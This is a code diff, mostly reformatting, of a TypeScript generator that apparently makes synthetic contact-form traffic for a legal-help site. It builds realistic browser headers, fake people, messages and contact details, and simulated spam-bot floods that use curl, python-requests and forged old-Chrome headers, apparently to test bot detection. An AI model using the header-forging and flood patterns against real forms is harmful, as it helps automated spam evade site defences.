+      recent: true,
+    };
   }
   const version = dice.between(126, 140);
   return {
@@ -924,7 +1193,12 @@ function inApp(dice: Dice): Browser {
     accept: acceptChrome,
     encoding: zstd,
     recent: true,
-    hints: { 'sec-ch-ua': `"Android WebView";v="${version}", "Chromium";v="${version}"`, 'sec-ch-ua-mobile': '?1', 'sec-ch-ua-platform': '"Android"', 'x-requested-with': 'com.facebook.katana' },
+    hints: {
+      'sec-ch-ua': `"Android WebView";v="${version}", "Chromium";v="${version}"`,
+      'sec-ch-ua-mobile': '?1',
+      'sec-ch-ua-platform': '"Android"',
+      'x-requested-with': 'com.facebook.katana',
+    },
   };
 }
 
@@ -936,7 +1210,14 @@ function modernBrowser(dice: Dice): Browser {
     [7, () => chrome(dice, 'mac')],
     [7, () => safari(dice, 'Mac')],
     [6, () => chrome(dice, 'windows', 'Microsoft Edge')],
-    [4, () => firefox(dice, dice.one(['Windows NT 10.0; Win64; x64', 'X11; Linux x86_64', 'Macintosh; Intel Mac OS X 10.15']))],
+    [
+      4,
+      () =>
+        firefox(
+          dice,
+          dice.one(['Windows NT 10.0; Win64; x64', 'X11; Linux x86_64', 'Macintosh; Intel Mac OS X 10.15']),
+        ),
+    ],
     [2, () => firefox(dice, 'Android 14; Mobile')],
     [3, () => safari(dice, 'iPad')],
     [2, () => chrome(dice, 'chromebook')],
@@ -947,24 +1228,82 @@ function modernBrowser(dice: Dice): Browser {
 
 function oldBrowser(dice: Dice): Browser {
   return dice.one<Browser>([
-    { agent: 'Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko', accept: 'text/html, application/xhtml+xml, */*', encoding: 'gzip, deflate', recent: false },
-    { agent: 'Mozilla/5.0 (iPhone; CPU iPhone OS 9_3_5 like Mac OS X) AppleWebKit/601.1.46 (KHTML, like Gecko) Version/9.0 Mobile/13G36 Safari/601.1', accept: acceptPlain, encoding: 'gzip, deflate', recent: false },
-    { agent: 'Mozilla/5.0 (iPad; CPU OS 12_5_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/12.1.2 Mobile/15E148 Safari/604.1', accept: acceptPlain, encoding: 'br, gzip, deflate', recent: false },
-    { agent: 'Mozilla/5.0 (Linux; Android 5.1.1; SM-J320A Build/LMY47V) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/61.0.3163.98 Mobile Safari/537.36', accept: acceptChrome, encoding: 'gzip, deflate, br', recent: false },
-    { agent: 'Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:52.0) Gecko/20100101 Firefox/52.0', accept: acceptPlain, encoding: 'gzip, deflate, br', recent: false },
-    { agent: 'Mozilla/5.0 (Windows NT 5.1; rv:52.9) Gecko/20100101 Goanna/4.5 Firefox/52.9 Mypal/28.9.3', accept: acceptPlain, encoding: 'gzip, deflate', recent: false },
-    { agent: 'Mozilla/5.0 (Mobile; Nokia_2720_Flip; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5.2', accept: acceptPlain, encoding: 'gzip, deflate', recent: false },
+    {
+      agent: 'Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko',
+      accept: 'text/html, application/xhtml+xml, */*',
+      encoding: 'gzip, deflate',
+      recent: false,
+    },
+    {
+      agent:
+        'Mozilla/5.0 (iPhone; CPU iPhone OS 9_3_5 like Mac OS X) AppleWebKit/601.1.46 (KHTML, like Gecko) Version/9.0 Mobile/13G36 Safari/601.1',
+      accept: acceptPlain,
+      encoding: 'gzip, deflate',
+      recent: false,
+    },
+    {
+      agent:
+        'Mozilla/5.0 (iPad; CPU OS 12_5_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/12.1.2 Mobile/15E148 Safari/604.1',
+      accept: acceptPlain,
+      encoding: 'br, gzip, deflate',
+      recent: false,
+    },
+    {
+      agent:
+        'Mozilla/5.0 (Linux; Android 5.1.1; SM-J320A Build/LMY47V) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/61.0.3163.98 Mobile Safari/537.36',
+      accept: acceptChrome,
+      encoding: 'gzip, deflate, br',
+      recent: false,
+    },
+    {
+      agent: 'Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:52.0) Gecko/20100101 Firefox/52.0',
+      accept: acceptPlain,
+      encoding: 'gzip, deflate, br',
+      recent: false,
+    },
+    {
+      agent: 'Mozilla/5.0 (Windows NT 5.1; rv:52.9) Gecko/20100101 Goanna/4.5 Firefox/52.9 Mypal/28.9.3',
+      accept: acceptPlain,
+      encoding: 'gzip, deflate',
+      recent: false,
+    },
+    {
+      agent: 'Mozilla/5.0 (Mobile; Nokia_2720_Flip; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5.2',
+      accept: acceptPlain,
+      encoding: 'gzip, deflate',
+      recent: false,
+    },
   ]);
 }
 
 /** Browsers that run no script, or only on a server far away. */
 function plainBrowser(dice: Dice): Browser {
   return dice.one<Browser>([
-    { agent: 'w3m/0.5.3+git20230121', accept: 'text/html, text/*;q=0.5, image/*', encoding: 'gzip, compress, bzip, bzip2, deflate', recent: false },
-    { agent: 'Lynx/2.9.0dev.12 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.7.8', accept: 'text/html, text/plain, text/sgml, text/css, */*;q=0.01', encoding: 'gzip, compress, bzip2', recent: false },
+    {
+      agent: 'w3m/0.5.3+git20230121',
+      accept: 'text/html, text/*;q=0.5, image/*',
+      encoding: 'gzip, compress, bzip, bzip2, deflate',
+      recent: false,
+    },
+    {
+      agent: 'Lynx/2.9.0dev.12 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.7.8',
+      accept: 'text/html, text/plain, text/sgml, text/css, */*;q=0.01',
+      encoding: 'gzip, compress, bzip2',
+      recent: false,
+    },
     { agent: 'ELinks/0.13.2 (textmode; Linux; 120x40-2)', accept: '*/*', encoding: 'gzip', recent: false },
-    { agent: 'Links (2.28; Linux 6.1.0 x86_64; GNU C 12.2; text)', accept: '*/*', encoding: 'gzip, deflate, br', recent: false },
-    { agent: 'Opera/9.80 (Android; Opera Mini/36.2.2254/191.303; U; en) Presto/2.12.423 Version/12.16', accept: 'text/html, application/xml;q=0.9, application/xhtml+xml, */*;q=0.1', encoding: 'gzip, deflate', recent: false },
+    {
+      agent: 'Links (2.28; Linux 6.1.0 x86_64; GNU C 12.2; text)',
+      accept: '*/*',
+      encoding: 'gzip, deflate, br',
+      recent: false,
+    },
+    {
+      agent: 'Opera/9.80 (Android; Opera Mini/36.2.2254/191.303; U; en) Presto/2.12.423 Version/12.16',
+      accept: 'text/html, application/xml;q=0.9, application/xhtml+xml, */*;q=0.1',
+      encoding: 'gzip, deflate',
+      recent: false,
+    },
     { agent: 'Mozilla/5.0 (X11; Linux x86_64) NetSurf/3.11', accept: '*/*', encoding: 'gzip', recent: false },
     { agent: 'Dillo/3.1.1', accept: 'text/*,image/*,*/*;q=0.2', encoding: 'gzip, deflate', recent: false },
   ]);
@@ -988,13 +1327,15 @@ function browserHeaders(browser: Browser, manner: Manner): Headers {
   headers['user-agent'] = browser.agent;
   headers['accept'] = sentByScript ? '*/*' : browser.accept;
   // Chrome and Safari have long named the origin with a form. A browser that is kept from naming it says null.
-  if (browser.recent || browser.agent.includes('AppleWebKit')) headers['origin'] = without.includes('origin') ? 'null' : foyer;
+  if (browser.recent || browser.agent.includes('AppleWebKit'))
+    headers['origin'] = without.includes('origin') ? 'null' : foyer;
   if (browser.recent) {
     headers['sec-fetch-site'] = manner.site ?? 'same-origin';
     headers['sec-fetch-mode'] = sentByScript ? 'cors' : 'navigate';
     headers['sec-fetch-dest'] = sentByScript ? 'empty' : manner.frame === true ? 'iframe' : 'document';
     // Safari sends neither sec-fetch-user nor upgrade-insecure-requests.
-    if (!sentByScript && !browser.agent.includes('AppleWebKit/605')) Object.assign(headers, { 'sec-fetch-user': '?1', 'upgrade-insecure-requests': '1' });
+    if (!sentByScript && !browser.agent.includes('AppleWebKit/605'))
+      Object.assign(headers, { 'sec-fetch-user': '?1', 'upgrade-insecure-requests': '1' });
   }
   if (!without.includes('referer')) headers['referer'] = manner.frame === true ? `${formPage}?embed=1` : formPage;
   if (browser.encoding !== undefined) headers['accept-encoding'] = browser.encoding;
@@ -1037,7 +1378,19 @@ const vpnExits = ['192.0.2.15', '192.0.2.16'];
 
 /** @returns a second of the day: few at night, most between nine and five, some in the evening */
 function waking(dice: Dice): number {
-  const hour = dice.weighted<number>([[1, 0], [1, 3], [2, 6], [6, 8], [9, 10], [9, 12], [9, 14], [7, 16], [6, 18], [6, 20], [3, 22]]);
+  const hour = dice.weighted<number>([
+    [1, 0],
+    [1, 3],
+    [2, 6],
+    [6, 8],
+    [9, 10],
+    [9, 12],
+    [9, 14],
+    [7, 16],
+    [6, 18],
+    [6, 20],
+    [3, 22],
+  ]);
   return Math.min(day - 2400, hour * 3600 + dice.between(0, 7199));
 }
 
@@ -1076,7 +1429,9 @@ function hurried(dice: Dice, text: string): string {
   const words = text.split(' ').map((word) => {
     if (!/^[a-z]{5,}$/.test(word) || !dice.chance(0.14)) return word;
     const at = dice.between(1, word.length - 3);
-    return dice.chance(0.6) ? word.slice(0, at) + word.charAt(at + 1) + word.charAt(at) + word.slice(at + 2) : word.slice(0, at) + word.slice(at + 1);
+    return dice.chance(0.6)
+      ? word.slice(0, at) + word.charAt(at + 1) + word.charAt(at) + word.slice(at + 2)
+      : word.slice(0, at) + word.slice(at + 1);
   });
   const typed = words.join(' ');
   return dice.chance(0.6) ? typed.toLowerCase().replaceAll(/['’]/g, '') : typed;
@@ -1105,7 +1460,13 @@ const voices: readonly (readonly [RegExp, readonly string[]])[] = [
 /** Puts a sentence the way one person would: no two people who tell the same thing use the same words. */
 function ownVoice(dice: Dice, sentence: string): string {
   if (sentence.includes('://')) return sentence;
-  return voices.reduce((text, [form, ways]) => text.replace(form, (found: string, part: unknown) => (dice.chance(0.5) ? dice.one(ways).replace('$1', String(part)) : found)), sentence);
+  return voices.reduce(
+    (text, [form, ways]) =>
+      text.replace(form, (found: string, part: unknown) =>
+        dice.chance(0.5) ? dice.one(ways).replace('$1', String(part)) : found,
+      ),
+    sentence,
+  );
 }
 
 /** Writes the messages of all people, no message twice. */
@@ -1129,7 +1490,10 @@ class People {
     this.#spanish = new Deck(dice, spanishTroubles);
     this.#spanishShorts = new Deck(dice, spanishShorts);
     this.#arabic = new Deck(dice, arabicTroubles);
-    this.#others = new Deck(dice, tongues.flatMap((tongue) => tongue.messages.map((message) => ({ tongue, message }))));
+    this.#others = new Deck(
+      dice,
+      tongues.flatMap((tongue) => tongue.messages.map((message) => ({ tongue, message }))),
+    );
     this.#evidence = new Deck(dice, evidence);
   }
 
@@ -1172,20 +1536,32 @@ class People {
       first,
       last,
       phone: number,
-      languages: dice.weighted([[20, 'en-US,en;q=0.9'], [6, 'en-US,en;q=0.5'], [1, 'en-GB,en-US;q=0.9,en;q=0.8'], [2, 'en-US,en;q=0.9,es;q=0.8'], [1, 'en-US']]),
+      languages: dice.weighted([
+        [20, 'en-US,en;q=0.9'],
+        [6, 'en-US,en;q=0.5'],
+        [1, 'en-GB,en-US;q=0.9,en;q=0.8'],
+        [2, 'en-US,en;q=0.9,es;q=0.8'],
+        [1, 'en-US'],
+      ]),
       message,
       abroad: false,
     };
   }
 
-  #parts(self: Record<string, string>, details: number): { opening: string; trouble: string; details: string[]; ask: string; goodbye: string } {
+  #parts(
+    self: Record<string, string>,
+    details: number,
+  ): { opening: string; trouble: string; details: string[]; ask: string; goodbye: string } {
     const dice = this.#dice;
     const area = this.#areas.deal();
     const own = areas[area]?.details ?? [];
     return {
       opening: write(dice, dice.one(openings), self),
       trouble: ownVoice(dice, write(dice, this.#troubles.get(area)?.deal() ?? '', self)),
-      details: dice.shuffled(own).slice(0, details).map((detail) => ownVoice(dice, write(dice, detail, self))),
+      details: dice
+        .shuffled(own)
+        .slice(0, details)
+        .map((detail) => ownVoice(dice, write(dice, detail, self))),
       ask: write(dice, dice.one(asks), self),
       goodbye: write(dice, dice.one(goodbyes), self),
     };
@@ -1196,7 +1572,11 @@ class People {
     const dice = this.#dice;
     const added: string[] = [];
     if (dice.chance(0.13)) {
-      const links = dice.weighted<number>([[7, 1], [2, 2], [1, 3]]);
+      const links = dice.weighted<number>([
+        [7, 1],
+        [2, 2],
+        [1, 3],
+      ]);
       for (let link = 0; link < links; link += 1) added.push(write(dice, this.#evidence.deal()));
     }
     if (dice.chance(0.06)) added.push(write(dice, dice.one(quotes)));
@@ -1208,8 +1588,18 @@ class People {
     const dice = this.#dice;
     const parts = this.#parts(own, dice.between(details - 1, details + 1));
     const middle = dice.chance(0.15) ? [...parts.details, parts.trouble] : [parts.trouble, ...parts.details];
-    const pieces = dice.chance(0.1) ? [parts.opening, parts.ask, ...middle, ...this.#additions()] : [parts.opening, ...middle, ...this.#additions(), parts.ask, parts.goodbye];
-    const text = pieces.filter((piece) => piece !== '').join(dice.weighted([[7, ' '], [2, '\n'], [2, '\n\n']]));
+    const pieces = dice.chance(0.1)
+      ? [parts.opening, parts.ask, ...middle, ...this.#additions()]
+      : [parts.opening, ...middle, ...this.#additions(), parts.ask, parts.goodbye];
+    const text = pieces
+      .filter((piece) => piece !== '')
+      .join(
+        dice.weighted([
+          [7, ' '],
+          [2, '\n'],
+          [2, '\n\n'],
+        ]),
+      );
     return dice.weighted<() => string>([
       [72, () => text],
       [6, () => text.toUpperCase()],
@@ -1223,9 +1613,24 @@ class People {
   #account(own: Record<string, string>, lines: number, thoughts: number): string {
     const dice = this.#dice;
     const parts = this.#parts(own, 4);
-    const list = dice.shuffled(events).slice(0, lines).map((event) => `${write(dice, '<date>')}${dice.one([' - ', ': ', ' – '])}${write(dice, event)}`);
-    const more = dice.shuffled(afterthoughts).slice(0, thoughts).map((thought) => ownVoice(dice, write(dice, thought, own)));
-    return [parts.opening, `${parts.trouble} ${parts.details.join(' ')}`, ...more.slice(0, 2), list.join('\n'), ...more.slice(2), ...this.#additions(), parts.ask, parts.goodbye]
+    const list = dice
+      .shuffled(events)
+      .slice(0, lines)
+      .map((event) => `${write(dice, '<date>')}${dice.one([' - ', ': ', ' – '])}${write(dice, event)}`);
+    const more = dice
+      .shuffled(afterthoughts)
+      .slice(0, thoughts)
+      .map((thought) => ownVoice(dice, write(dice, thought, own)));
+    return [
+      parts.opening,
+      `${parts.trouble} ${parts.details.join(' ')}`,
+      ...more.slice(0, 2),
+      list.join('\n'),
+      ...more.slice(2),
+      ...this.#additions(),
+      parts.ask,
+      parts.goodbye,
+    ]
       .filter((piece) => piece !== '')
       .join('\n\n');
   }
@@ -1244,15 +1649,28 @@ class People {
         write(dice, dice.one(spanishDetails), own),
         dice.chance(0.05) ? write(dice, 'Aquí están las fotos https://photos.example/a/<code>') : '',
         write(dice, dice.one(spanishAsks)),
-      ].filter((piece) => piece !== '').join(' ');
-      const plain = dice.chance(0.25) ? text.normalize('NFD').replaceAll(/[\u0300-\u036f¿¡]/g, '').toLowerCase() : text;
+      ]
+        .filter((piece) => piece !== '')
+        .join(' ');
+      const plain = dice.chance(0.25)
+        ? text
+            .normalize('NFD')
+            .replaceAll(/[\u0300-\u036f¿¡]/g, '')
+            .toLowerCase()
+        : text;
       return dice.chance(0.09) ? plain.toUpperCase() : plain;
     });
     return {
       first,
       last,
       phone: number,
-      languages: dice.one(['es-US,es;q=0.9,en;q=0.8', 'es-MX,es;q=0.9', 'es-419,es;q=0.9', 'en-US,en;q=0.9,es;q=0.8', 'es-ES,es;q=0.9,en;q=0.5']),
+      languages: dice.one([
+        'es-US,es;q=0.9,en;q=0.8',
+        'es-MX,es;q=0.9',
+        'es-419,es;q=0.9',
+        'en-US,en;q=0.9,es;q=0.8',
+        'es-ES,es;q=0.9,en;q=0.5',
+      ]),
       message,
       abroad: dice.chance(0.08),
     };
@@ -1262,14 +1680,21 @@ class People {
     const dice = this.#dice;
     const number = phone(dice);
     const message = this.#unwritten(() =>
-      [dice.one(arabicOpenings), write(dice, this.#arabic.deal()), write(dice, dice.one(arabicAsks), { number })].filter((piece) => piece !== '').join(dice.one([' ', '\n'])),
+      [dice.one(arabicOpenings), write(dice, this.#arabic.deal()), write(dice, dice.one(arabicAsks), { number })]
+        .filter((piece) => piece !== '')
+        .join(dice.one([' ', '\n'])),
     );
     const latin = dice.chance(0.6);
     return {
       first: dice.one(latin ? arabicLatin : arabicFirst),
       last: dice.one(latin ? arabicLatinLast : arabicLast),
       phone: number,
-      languages: dice.one(['ar,en-US;q=0.9,en;q=0.8', 'ar-EG,ar;q=0.9,en;q=0.8', 'en-US,en;q=0.9,ar;q=0.8', 'ar-SA,ar;q=0.9']),
+      languages: dice.one([
+        'ar,en-US;q=0.9,en;q=0.8',
+        'ar-EG,ar;q=0.9,en;q=0.8',
+        'en-US,en;q=0.9,ar;q=0.8',
+        'ar-SA,ar;q=0.9',
+      ]),
       message,
       abroad: dice.chance(0.15),
     };
@@ -1295,13 +1720,15 @@ class People {
     const message = this.#unwritten(() =>
       write(
         dice,
-        `${dice.one(['', 'Hi.', '<name> from second shift gave me your link.', 'I heard you talk to people from the plant.', 'Hello,'])} ${dice.one([
-          'I {got laid off|lost my job|was let go} at Summit Steel {today|this morning} with everybody else',
-          'They closed the Summit Steel plant {today|with no notice} and walked us out',
-          'Summit Steel, {line <n>|shipping|the melt shop|QA}, <m> years, out the door {today|at <time>}',
-          'I am one of the Summit people',
-          'about Summit Steel. no 60 day notice, no severance',
-        ])}. ${dice.one([
+        `${dice.one(['', 'Hi.', '<name> from second shift gave me your link.', 'I heard you talk to people from the plant.', 'Hello,'])} ${dice.one(
+          [
+            'I {got laid off|lost my job|was let go} at Summit Steel {today|this morning} with everybody else',
+            'They closed the Summit Steel plant {today|with no notice} and walked us out',
+            'Summit Steel, {line <n>|shipping|the melt shop|QA}, <m> years, out the door {today|at <time>}',
+            'I am one of the Summit people',
+            'about Summit Steel. no 60 day notice, no severance',
+          ],
+        )}. ${dice.one([
           'I am owed <money> in vacation.',
           'My insurance ends on {Friday|the 31st}.',
           'They want us to sign a paper by <weekday>.',
@@ -1312,20 +1739,37 @@ class People {
         { number },
       ),
     );
-    return { first: dice.one(firstNames), last: dice.one(lastNames), languages: 'en-US,en;q=0.9', message, phone: number, abroad: false };
+    return {
+      first: dice.one(firstNames),
+      last: dice.one(lastNames),
+      languages: 'en-US,en;q=0.9',
+      message,
+      phone: number,
+      abroad: false,
+    };
   }
 }
 
 function latinLetters(text: string): string {
-  return text.normalize('NFD').toLowerCase().replaceAll(/[^a-z]/g, '');
+  return text
+    .normalize('NFD')
+    .toLowerCase()
+    .replaceAll(/[^a-z]/g, '');
 }
 
 function mailOf(dice: Dice, first: string, last: string): string {
   const given = latinLetters(first) || dice.one(['user', 'my', 'mail', 'k']) + dice.letters(4);
   const family = latinLetters(last) || dice.letters(5);
   const local = dice.one([
-    `${given}.${family}`, `${given}${family}`, `${given.slice(0, 1)}${family}${dice.digits(2)}`, `${given}${dice.between(1955, 2006)}`, `${family}_${given}`,
-    `${family}${given.slice(0, 1)}`, `${given}.${family}${dice.digits(3)}`, `${given}${family}+legal`, `${dice.one(['lil', 'mama', 'bigdog', 'sk8er', 'fishing', 'nurse', 'jesusfreak'])}${given}${dice.digits(2)}`,
+    `${given}.${family}`,
+    `${given}${family}`,
+    `${given.slice(0, 1)}${family}${dice.digits(2)}`,
+    `${given}${dice.between(1955, 2006)}`,
+    `${family}_${given}`,
+    `${family}${given.slice(0, 1)}`,
+    `${given}.${family}${dice.digits(3)}`,
+    `${given}${family}+legal`,
+    `${dice.one(['lil', 'mama', 'bigdog', 'sk8er', 'fishing', 'nurse', 'jesusfreak'])}${given}${dice.digits(2)}`,
   ]);
   return dice.weighted([
     [88, `${local}@${dice.one(mailHosts)}`],
@@ -1339,23 +1783,42 @@ function mailOf(dice: Dice, first: string, last: string): string {
 
 function fieldsOf(dice: Dice, person: Person): Fields {
   const fields: Fields = { first_name: person.first, last_name: person.last };
-  const reach = dice.weighted([[58, 'both'], [19, 'phone'], [21, 'mail'], [2, 'neither']]);
+  const reach = dice.weighted([
+    [58, 'both'],
+    [19, 'phone'],
+    [21, 'mail'],
+    [2, 'neither'],
+  ]);
   if (reach === 'both' || reach === 'mail') fields.email = mailOf(dice, person.first, person.last);
   if (reach === 'both' || reach === 'phone') {
     fields.phone_number = person.abroad
       ? `+${dice.one(['52', '503', '504', '20', '962', '49', '33', '63'])} ${dice.digits(3)} ${dice.digits(3)} ${dice.digits(4)}`
-      : dice.weighted([[94, person.phone], [3, `${person.phone} ask for ${dice.one(firstNames)}`], [3, `c ${person.phone} w ${phone(dice)}`]]);
+      : dice.weighted([
+          [94, person.phone],
+          [3, `${person.phone} ask for ${dice.one(firstNames)}`],
+          [3, `c ${person.phone} w ${phone(dice)}`],
+        ]);
   }
   // What is left empty is sent as an empty text by browsers; apps and the form's script leave it out.
   if (dice.chance(0.6)) {
     fields.email ??= '';
     fields.phone_number ??= '';
   }
-  const naming = dice.weighted([[78, 'plain'], [8, 'lower'], [4, 'upper'], [5, 'one'], [3, 'all in one'], [2, 'initial']]);
-  if (naming === 'lower') Object.assign(fields, { first_name: person.first.toLowerCase(), last_name: person.last.toLowerCase() });
-  if (naming === 'upper') Object.assign(fields, { first_name: person.first.toUpperCase(), last_name: person.last.toUpperCase() });
+  const naming = dice.weighted([
+    [78, 'plain'],
+    [8, 'lower'],
+    [4, 'upper'],
+    [5, 'one'],
+    [3, 'all in one'],
+    [2, 'initial'],
+  ]);
+  if (naming === 'lower')
+    Object.assign(fields, { first_name: person.first.toLowerCase(), last_name: person.last.toLowerCase() });
+  if (naming === 'upper')
+    Object.assign(fields, { first_name: person.first.toUpperCase(), last_name: person.last.toUpperCase() });
   if (naming === 'one') fields.last_name = dice.one(['', '.', '-', 'x']);
-  if (naming === 'all in one') Object.assign(fields, { first_name: `${person.first} ${person.last}`, last_name: dice.one(['', person.last]) });
+  if (naming === 'all in one')
+    Object.assign(fields, { first_name: `${person.first} ${person.last}`, last_name: dice.one(['', person.last]) });
   if (naming === 'initial') fields.last_name = person.last.slice(0, 1);
   fields.from_message = person.message;
   return fields;
@@ -1382,7 +1845,10 @@ function manners(dice: Dice, languages: string, script: boolean): Manner {
 function sendByPerson(dice: Dice, kind: 'person with script' | 'person without script', person: Person): MadeUp {
   const script = kind === 'person with script';
   const browser = script
-    ? dice.weighted<() => Browser>([[95, () => modernBrowser(dice)], [5, () => oldBrowser(dice)]])()
+    ? dice.weighted<() => Browser>([
+        [95, () => modernBrowser(dice)],
+        [5, () => oldBrowser(dice)],
+      ])()
     : // Most of them have the same browsers as everybody else: the script was blocked, or did not arrive over a weak line.
       dice.weighted<() => Browser>([
         [62, () => modernBrowser(dice)],
@@ -1422,8 +1888,18 @@ function sentAgain(dice: Dice, sent: MadeUp, again: number): MadeUp {
     at: sent.at + later,
     network: dice.chance(0.4) ? sent.network : homeNetwork(dice),
     page: { seconds: dice.between(20, 110), script, work: script ? 'done' : 'missing', trapped: false },
-    headers: browserHeaders(modernBrowser(dice), manners(dice, sent.headers['accept-language'] ?? 'en-US,en;q=0.9', script)),
-    fields: { ...sent.fields, from_message: dice.one([message, `${message} ${dice.one(['(sent twice, sorry)', 'did you get this?', '- second try', '!!'])}`, `I wrote before. ${message}`]) },
+    headers: browserHeaders(
+      modernBrowser(dice),
+      manners(dice, sent.headers['accept-language'] ?? 'en-US,en;q=0.9', script),
+    ),
+    fields: {
+      ...sent.fields,
+      from_message: dice.one([
+        message,
+        `${message} ${dice.one(['(sent twice, sorry)', 'did you get this?', '- second try', '!!'])}`,
+        `I wrote before. ${message}`,
+      ]),
+    },
   };
 }
 
@@ -1434,7 +1910,11 @@ function people(dice: Dice, writer: People, kind: 'person with script' | 'person
   // A plant closes: its workers send from its own network and from their phones within two hours.
   for (let worker = 0; worker < (script ? 12 : 5); worker += 1) {
     const one = sendByPerson(dice, kind, writer.colleague());
-    sent.push({ ...one, at: 50_000 + dice.between(0, 7200), network: dice.chance(0.7) ? '203.0.113.200' : homeNetwork(dice) });
+    sent.push({
+      ...one,
+      at: 50_000 + dice.between(0, 7200),
+      network: dice.chance(0.7) ? '203.0.113.200' : homeNetwork(dice),
+    });
   }
 
   // Visitors of a legal clinic use one tablet, each going back to the same rendering of the page.
@@ -1444,21 +1924,49 @@ function people(dice: Dice, writer: People, kind: 'person with script' | 'person
     for (let visitor = 0; visitor < 6; visitor += 1) {
       const one = sendByPerson(dice, kind, writer.next());
       const at = start + visitor * 1500 + dice.between(0, 900);
-      const page: PageUse = { seconds: at - start + 240, script, work: 'done', trapped: false, shared: 'second half: clinic tablet' };
-      sent.push({ ...one, at, network: '203.0.113.33', page, headers: browserHeaders(tablet, { languages: 'en-US,en;q=0.9' }) });
+      const page: PageUse = {
+        seconds: at - start + 240,
+        script,
+        work: 'done',
+        trapped: false,
+        shared: 'second half: clinic tablet',
+      };
+      sent.push({
+        ...one,
+        at,
+        network: '203.0.113.33',
+        page,
+        headers: browserHeaders(tablet, { languages: 'en-US,en;q=0.9' }),
+      });
     }
   } else {
     // These people never asked for Foyer's page: a firm's old website has a form of its own that posts to the form's address.
     for (let visitor = 0; visitor < 4; visitor += 1) {
       const one = sendByPerson(dice, kind, writer.next());
       const headers = browserHeaders(modernBrowser(dice), { languages: 'en-US,en;q=0.9', site: 'cross-site' });
-      sent.push({ ...one, page: null, headers: { ...headers, origin: 'https://www.bakerandhall-law.example', referer: 'https://www.bakerandhall-law.example/' } });
+      sent.push({
+        ...one,
+        page: null,
+        headers: {
+          ...headers,
+          origin: 'https://www.bakerandhall-law.example',
+          referer: 'https://www.bakerandhall-law.example/',
+        },
+      });
     }
     // These people had saved the page, or had been sent it by mail, and opened the file.
     for (let visitor = 0; visitor < 3; visitor += 1) {
       const one = sendByPerson(dice, kind, writer.next());
-      const headers = browserHeaders(modernBrowser(dice), { languages: 'en-US,en;q=0.9', site: 'cross-site', without: ['origin', 'referer'] });
-      sent.push({ ...one, page: { seconds: dice.between(3000, 200_000), script, work: 'missing', trapped: false }, headers });
+      const headers = browserHeaders(modernBrowser(dice), {
+        languages: 'en-US,en;q=0.9',
+        site: 'cross-site',
+        without: ['origin', 'referer'],
+      });
+      sent.push({
+        ...one,
+        page: { seconds: dice.between(3000, 200_000), script, work: 'missing', trapped: false },
+        headers,
+      });
     }
   }
 
@@ -1509,8 +2017,14 @@ function oldChrome(dice: Dice): string {
 function pretended(dice: Dice): Headers {
   return {
     'user-agent': oldChrome(dice),
-    accept: dice.one([acceptPlain, '*/*', 'text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8']),
-    ...(dice.chance(0.6) ? { 'accept-language': dice.one(['en-US,en;q=0.5', 'en', 'ru-RU,ru;q=0.8,en-US;q=0.5', 'en-US,en;q=0.9']) } : {}),
+    accept: dice.one([
+      acceptPlain,
+      '*/*',
+      'text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8',
+    ]),
+    ...(dice.chance(0.6)
+      ? { 'accept-language': dice.one(['en-US,en;q=0.5', 'en', 'ru-RU,ru;q=0.8,en-US;q=0.5', 'en-US,en;q=0.9']) }
+      : {}),
     ...(dice.chance(0.7) ? { referer: dice.one([formPage, `${foyer}/`, formPage]) } : {}),
     ...(dice.chance(0.3) ? { origin: foyer } : {}),
     'accept-encoding': dice.one(['gzip, deflate', 'gzip', 'identity']),
@@ -1522,63 +2036,148 @@ function floodCampaigns(dice: Dice): Campaign[] {
   const rented = rentedServer(dice);
   const block = `45.148.${dice.between(1, 254)}`;
   const replay = rentedServer(dice);
-  const gibberishPairs = Array.from({ length: 26 }, () => [mixedCase(dice, dice.between(8, 16)), mixedCase(dice, dice.between(8, 16))] as const);
-  const fakeHurt = new Deck(dice, ['car accident', 'truck accident', 'work injury', 'slip and fall', 'dog bite', 'motorcycle crash']);
+  const gibberishPairs = Array.from(
+    { length: 26 },
+    () => [mixedCase(dice, dice.between(8, 16)), mixedCase(dice, dice.between(8, 16))] as const,
+  );
+  const fakeHurt = new Deck(dice, [
+    'car accident',
+    'truck accident',
+    'work injury',
+    'slip and fall',
+    'dog bite',
+    'motorcycle crash',
+  ]);
   return [
     {
       // A loop around curl with one text.
-      posts: 38, from: 10_800, until: 11_100,
+      posts: 38,
+      from: 10_800,
+      until: 11_100,
       network: () => rented,
       page: () => null,
       headers: () => ({ 'user-agent': 'curl/8.5.0', accept: '*/*' }),
-      fields: (post) => ({ first_name: 'test', last_name: `user${post}`, email: `test${post}@mailbox.test`, phone_number: '5555555555', from_message: dice.one(['hello', 'test message', 'i need legal help', `test ${post}`]) }),
+      fields: (post) => ({
+        first_name: 'test',
+        last_name: `user${post}`,
+        email: `test${post}@mailbox.test`,
+        phone_number: '5555555555',
+        from_message: dice.one(['hello', 'test message', 'i need legal help', `test ${post}`]),
+      }),
     },
     {
       // python-requests from a block of addresses that fetches the page for the hidden fields.
-      posts: 30, from: 52_000, until: 54_600,
+      posts: 30,
+      from: 52_000,
+      until: 54_600,
       network: () => `${block}.${dice.between(2, 250)}`,
       page: () => ({ seconds: dice.between(0, 2), script: false, work: 'missing', trapped: dice.chance(0.5) }),
-      headers: () => ({ 'user-agent': 'python-requests/2.31.0', accept: '*/*', 'accept-encoding': 'gzip, deflate', ...(dice.chance(0.5) ? { referer: formPage } : {}) }),
+      headers: () => ({
+        'user-agent': 'python-requests/2.31.0',
+        accept: '*/*',
+        'accept-encoding': 'gzip, deflate',
+        ...(dice.chance(0.5) ? { referer: formPage } : {}),
+      }),
       fields: () => {
         const first = dice.one(firstNames);
         const last = dice.one(lastNames);
